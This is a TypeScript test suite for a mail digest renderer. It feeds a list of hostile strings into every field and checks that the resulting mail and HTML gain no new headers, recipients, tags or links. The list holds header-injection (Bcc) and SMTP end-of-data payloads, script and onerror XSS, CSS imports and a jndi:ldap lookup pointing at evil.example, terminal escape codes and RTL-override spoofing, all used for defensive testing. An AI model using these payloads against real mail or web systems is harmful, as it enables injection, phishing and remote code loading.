import { assert, describe, expect, it } from "@effect/vitest"
import { Effect, Option } from "effect"
import fc from "fast-check"
import { BusinessId } from "../../src/domain/Business.ts"
import { ChatId } from "../../src/domain/Chat.ts"
import { RuleId } from "../../src/domain/Rule.ts"
import { locales } from "../../src/locale/Locale.ts"
import type { Digest } from "../../src/mail/Digest.ts"
import { digestWords } from "../../src/mail/digestWords.ts"
import { renderDigest } from "../../src/mail/renderDigest.tsx"
import { business, coverage, finding } from "../report/sampleReports.ts"
import { mailOf, parsed } from "./mailOf.ts"
import { sender } from "./mails.ts"
import { cause, digest, wordingFor } from "./sampleDigests.ts"

const escape = "\u001b"

/** Attacks on a mail and its readers by the authors of chats or by whoever names a shop. */
const attacks: Readonly<Record<string, string>> = {
  "a header of its own": "x\r\nBcc: z@z.example\r\nX-Evil: 1",
  "a body of its own": "x\r\n\r\n<html>evil</html>",
  "a bare line feed": "x\nBcc: z@z.example",
  "other line ends": "x\u2028Bcc: z@z.example\u0085X-Evil: 1",
  "an encoded word": "=?utf-8?Q?=0D=0ABcc:_z@z.example?=",
  "an end of the mail": "x\r\n.\r\nMAIL FROM:<z@z.example>",
  script: "<script>alert(1)</script>",
  "a tracking image": '<img src="https://evil.example/b.gif" onerror=alert(1)>',
  "an end of a comment": "--><![endif]--><b>x</b>",
  "an end of CDATA": "]]><b>x</b>",
  entities: "&#x0;&lt;b&gt;&amp;",
  "a style": "<style>@import url(https://evil.example/x.css);</style>",
  "an end of an attribute": '"><a href="https://evil.example">x</a>',
  "a script address": "javascript:alert(1)",
  templates: `{{7*7}} \${jndi:ldap://evil.example/x} {count, plural, other {#}}`,
  "terminal sequences": `${escape}[2J${escape}]0;PWN\u0007`,
  "a reversed text direction": "\u202egnp.exe\u202c",
  "zero-width characters": "8\u200b9\u200c0",
  "lone surrogates": "\ud83d x \udc00",
  "a thousand characters": "Ж".repeat(1000),
  emoji: "🌼👩‍👩‍👧‍👦🏳️‍🌈",
  nul: "a\u0000b"
}

/** A digest that has the text in every external field, including unchecked ids. */
const digestOf = (text: string): Digest => {
  const unchecked = { disableValidation: true }
  const chatId = ChatId.make(text, unchecked)
  const rule = RuleId.make(text, unchecked)
  return digest({
    run: { id: text, startedAt: text, finishedAt: text, ruleSet: text },
    shopName: Option.some(text),
    business: business({
      businessId: BusinessId.make(text, unchecked),
      coverage: coverage({ notScanned: [{ chatId, reason: text, message: text }] }),
      failure: { reason: text, message: text }
    }),
    findings: [
      finding({ rule, chatId, orderId: text, context: text, at: text, match: text, excerpt: text }),
      finding({ excerpt: text, orderId: null, context: text })
    ],
    mostBroken: Option.some({ rule, findings: 2 }),
    rootCauses: [cause({ excerpt: text, rules: [rule] })],
    trend: [{ ...(digest().trend[0] ?? assert.fail("no trend")), finishedAt: text }],
    undelivered: [
      {
        businessId: BusinessId.make("1001"),
        runId: text,
        kind: text,
        recipient: text,
        state: "permanent",
        error: text,
        answer: text
      }
    ]
  })
}

const harmlessHeaders = [
  "auto-submitted",
  "content-language",
  "content-type",
  "date",
  "from",
  "list-id",
  "list-unsubscribe",
  "list-unsubscribe-post",
  "message-id",
  "mime-version",
  "subject",
  "to",
  "x-auto-response-suppress"
]

const tagsOf = (html: string): ReadonlyArray<string> =>
  [...new Set([...html.matchAll(/<\/?([a-z0-9]+)/gi)].map(([, name = ""]) => name.toLowerCase()))].toSorted()

const attributesOf = (html: string): ReadonlyArray<string> =>
  [
    ...new Set(
      [...html.matchAll(/<[a-z][^>]*>/gi)].flatMap(([tag]) =>
        [...tag.matchAll(/\s([a-z-]+)=/gi)].map(([, name = ""]) => name)
      )
    )
  ].toSorted()

const hrefsOf = (html: string): ReadonlyArray<string> => [
  ...new Set([...html.matchAll(/href="([^"]*)"/g)].map(([, address = ""]) => address))
]

describe("hostile text", () => {
  for (const [name, attack] of Object.entries(attacks)) {
    it.effect(`does not escape from a header or a part: ${name}`, () =>
      Effect.gen(function* () {
        for (const locale of locales) {
          const mail = yield* mailOf(digestOf(attack), locale, {
            sender: { ...sender, name: attack },
            attachments: []
          })
          const { headers, to, from, cc, bcc, attachments, subject = "" } = yield* parsed(mail)
          assert.deepStrictEqual(headers.map(({ key }) => key).toSorted(), harmlessHeaders)
          assert.deepStrictEqual(to, [{ name: "", address: "anna@shop.example" }])
          assert.strictEqual(from?.address, "chatlint@romashka.example")
          assert.deepStrictEqual([cc, bcc, attachments], [undefined, undefined, []])
          assert.notMatch(subject, /\p{Cc}|[\u2028\u2029\u202a-\u202e\u200b]/u)
          assert.isTrue(Array.from(subject).length <= 150)
          assert.isFalse(mail.includes("\r\n.\r\n"), "an end of DATA")
        }
      })
    )

    it.effect(`adds no tag, attribute or address to the HTML: ${name}`, () =>
      Effect.gen(function* () {
        const plain = yield* Effect.promise(() => renderDigest(digestWords(digestOf("x"), wordingFor("ru"))))
        const html = yield* Effect.promise(() => renderDigest(digestWords(digestOf(attack), wordingFor("ru"))))
        assert.deepStrictEqual(tagsOf(html), tagsOf(plain))
        assert.deepStrictEqual(attributesOf(html), attributesOf(plain))
        assert.deepStrictEqual(hrefsOf(html), hrefsOf(plain))
        assert.notMatch(html, /<(script|img|link|iframe|object|form)/i)
      })
    )
  }

  it("is harmless whatever the string", () =>
    fc.assert(
      fc.asyncProperty(fc.string({ unit: "binary", maxLength: 40 }), async (text) => {
        const mail = await Effect.runPromise(mailOf(digestOf(text), "ru", { sender: { ...sender, name: text } }))
        const { headers, to, html = "" } = await Effect.runPromise(parsed(mail))
        expect(headers.map(({ key }) => key).toSorted()).toEqual(harmlessHeaders)
        expect(to).toEqual([{ name: "", address: "anna@shop.example" }])
        expect(html).not.toMatch(/<(script|img|link|iframe|object|form)/i)
      }),
      { numRuns: 60 }
    ))
})
